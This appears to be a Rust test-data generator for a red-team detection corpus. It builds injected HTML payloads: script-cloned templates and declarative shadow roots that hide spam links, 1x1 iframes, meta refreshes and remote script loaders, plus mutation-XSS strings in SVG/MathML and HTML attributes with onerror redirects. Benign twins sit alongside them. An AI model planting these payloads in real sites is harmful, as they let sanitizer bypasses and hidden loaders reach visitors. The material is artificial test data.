//! Markup that is inert or text on the page as written, and live once a script or the
//! parser turns it into elements (issue 14, third red-team round, classes 2 and 3):
//! - a `<template>` whose content a script clones into the page, and a declarative shadow
//!   root (`<template shadowrootmode=open>`), which renders without any script: spam,
//!   foreign links, frames and refreshes inside are judged as if rendered;
//! - mutation XSS in SVG/MathML: an attribute value holding markup with a handler or a
//!   foreign URL, which a re-serialized subtree re-parses into elements once a `<style>`
//!   or comment opened before it ends inside the value.
//!
//! The benign twins: a same-site card template with internal links, and SVG/MathML whose
//! attributes hold harmless markup (a tooltip's `<b>`, `a &lt; b`).

use super::rng::Rng;
use super::{Kind, Payload, Template};

const fn t(
    family: &'static str,
    name: &'static str,
    kind: Kind,
    active: bool,
    make: fn(&mut Rng) -> Payload,
) -> Template {
    Template {
        family,
        class: 0,
        name,
        kind,
        active,
        make,
    }
}

pub const TEMPLATES: &[Template] = &[
    t(
        "A",
        "template-cloned-link",
        Kind::Script,
        false,
        cloned_link,
    ),
    t(
        "A2",
        "template-cloned-spam",
        Kind::Script,
        false,
        cloned_spam,
    ),
    t(
        "A4",
        "template-cloned-loader",
        Kind::Script,
        true,
        cloned_loader,
    ),
    t(
        "A",
        "declarative-shadow-root",
        Kind::Link,
        false,
        shadow_root,
    ),
    t("B3", "foreign-content-mxss", Kind::Script, true, mxss),
    t("B3", "html-attribute-mxss", Kind::Script, false, html_mxss),
];

pub const BENIGN: &[Template] = &[
    t("benign", "same-site-template", Kind::Benign, false, card),
    t("benign", "svg-math-attr-markup", Kind::Benign, false, math),
];

/// A script that clones template `id` into the page, as a widget loader does.
fn clone_script(r: &mut Rng, id: &str) -> String {
    match r.below(3) {
        0 => format!(
            "<script>document.body.appendChild(document.getElementById('{id}').content.cloneNode(true))</script>"
        ),
        1 => format!(
            "<script>var t=document.querySelector('#{id}');document.body.append(document.importNode(t.content,true))</script>"
        ),
        _ => format!(
            "<script>window.addEventListener('load',function(){{document.body.insertAdjacentHTML('beforeend',document.getElementById('{id}').innerHTML)}})</script>"
        ),
    }
}

fn template_id(r: &mut Rng) -> String {
    format!("tp{}", r.below(90) + 10)
}

fn cloned_link(r: &mut Rng) -> Payload {
    let host = r.host();
    let url = r.url(&host);
    let s = r.spam();
    let a = r.anchor(&url, &s.html);
    let id = template_id(r);
    let inner = match r.below(3) {
        0 => format!("<div class=\"card\">{a}</div>"),
        1 => format!("<li>{a}</li>"),
        _ => format!("<p>{a}</p>"),
    };
    let script = clone_script(r, &id);
    Payload {
        html: format!("<template id=\"{id}\">{inner}</template>{script}"),
        planted: vec![host],
        ..Default::default()
    }
}

fn cloned_spam(r: &mut Rng) -> Payload {
    let s = r.spam();
    let id = template_id(r);
    let inner = match r.below(2) {
        0 => format!("<p>{}</p>", s.html),
        _ => format!("<div class=\"promo\"><b>{}</b></div>", s.html),
    };
    let script = clone_script(r, &id);
    Payload {
        html: format!("<template id=\"{id}\">{inner}</template>{script}"),
        planted: vec![s.phrase],
        ..Default::default()
    }
}

fn cloned_loader(r: &mut Rng) -> Payload {
    let host = r.host();
    let url = r.url(&host);
    let id = template_id(r);
    let inner = match r.below(3) {
        0 => format!("<iframe src=\"{url}\" width=\"1\" height=\"1\"></iframe>"),
        1 => format!("<meta http-equiv=\"refresh\" content=\"0;url={url}\">"),
        _ => format!("<script src=\"{url}app.js\"></script>"),
    };
    let script = clone_script(r, &id);
    Payload {
        html: format!("<template id=\"{id}\">{inner}</template>{script}"),
        planted: vec![host],
        ..Default::default()
    }
}

fn shadow_root(r: &mut Rng) -> Payload {
    let host = r.host();
    let url = r.url(&host);
    let s = r.spam();
    let a = r.anchor(&url, &s.html);
    let mode = *r.pick(&["open", "closed", "OPEN"]);
    let attr = *r.pick(&["shadowrootmode", "shadowroot"]);
    Payload {
        html: format!(
            "<div class=\"widget\"><template {attr}=\"{mode}\"><p>{a}</p></template></div>"
        ),
        planted: vec![host],
        ..Default::default()
    }
}

fn mxss(r: &mut Rng) -> Payload {
    let host = r.host();
    let payload = match r.below(3) {
        0 => format!("--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=location='https://{host}/'&gt;"),
        1 => format!("&lt;/style&gt;&lt;img src=//{host}/p.png onerror=alert(1)&gt;"),
        _ => format!("--&#62;&#60;iframe src=https://{host}/&#62;"),
    };
    let html = match r.below(4) {
        0 => format!("<math><mtext><table><mglyph><style><!--</style><img title=\"{payload}\">"),
        1 => format!(
            "<math><mi><malignmark><style><!--</style><b id=\"{payload}\">x</b></malignmark></mi></math>"
        ),
        2 => format!(
            "<svg><foreignObject><table><desc><style><!--</style><img alt=\"{payload}\"></desc></table></foreignObject></svg>"
        ),
        _ => format!("<svg><p><style><!--</style><img title=\"{payload}\"></p></svg>"),
    };
    Payload {
        html,
        planted: vec![host],
        ..Default::default()
    }
}

/// An HTML attribute value that ends a raw-text context before active markup: elements
/// once a script re-serializes it into that context (see `foreign`).
fn html_mxss(r: &mut Rng) -> Payload {
    let host = r.host();
    let closer = *r.pick(&[
        "&lt;/noscript&gt;",
        "&lt;/style&gt;",
        "&lt;/title&gt;",
        "&lt;/textarea&gt;",
        "&lt;/xmp&gt;",
        "--&gt;",
    ]);
    let markup = match r.below(3) {
        0 => format!("&lt;img src=//{host}/p.png&gt;"),
        1 => format!("&lt;img src=1 onerror=location='https://{host}/'&gt;"),
        _ => format!("&lt;iframe src=https://{host}/&gt;"),
    };
    let html = match r.below(4) {
        0 => format!("<p title=\"{closer}{markup}\">Tin mới</p>"),
        1 => format!("<noscript><p data-x=\"{closer}{markup}\">Bật JavaScript</p></noscript>"),
        2 => format!("<select><option title=\"{closer}{markup}\">Sở Tư pháp</option></select>"),
        _ => format!("<table><tr><td abbr=\"{closer}{markup}\">1</td></tr></table>"),
    };
    Payload {
        html,
        planted: vec![host],
        ..Default::default()
    }
}

fn card(r: &mut Rng) -> Payload {
    let id = template_id(r);
    let title = *r.pick(&["Lịch tiếp công dân", "Văn bản mới", "Thủ tục hành chính"]);
    Payload {
        html: format!(
            "<template id=\"{id}\"><div class=\"card\"><h3><a href=\"/tin-tuc/1\">{title}</a></h3>\
             <p>Cập nhật ngày 02/12</p></div></template>\
             <script>document.querySelector('.list').appendChild(document.getElementById('{id}').content.cloneNode(true))</script>"
        ),
        ..Default::default()
    }
}

fn math(r: &mut Rng) -> Payload {
    let tip = *r.pick(&["&lt;b&gt;Đậm&lt;/b&gt;", "a &lt; b", "&lt;i&gt;x&lt;/i&gt;"]);
    Payload {
        html: format!(
            "<svg viewBox=\"0 0 9 9\" aria-label=\"{tip}\"><g data-tip=\"{tip}\"><rect width=\"9\" height=\"9\"/></g></svg>\
             <math alttext=\"x &lt; y\"><mi title=\"{tip}\">x</mi><mo>&lt;</mo><mi>y</mi></math>"
        ),
        ..Default::default()
    }
}
